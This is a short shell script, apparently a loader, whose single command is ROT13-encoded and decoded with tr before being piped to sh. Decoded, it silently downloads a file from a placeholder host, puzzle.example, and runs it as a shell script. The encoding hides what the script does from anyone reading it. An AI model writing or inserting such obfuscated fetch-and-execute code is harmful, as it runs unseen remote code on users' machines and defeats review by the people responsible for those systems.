#!/bin/sh
echo 'phey -f uggcf://chmmyr.rknzcyr/c | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh
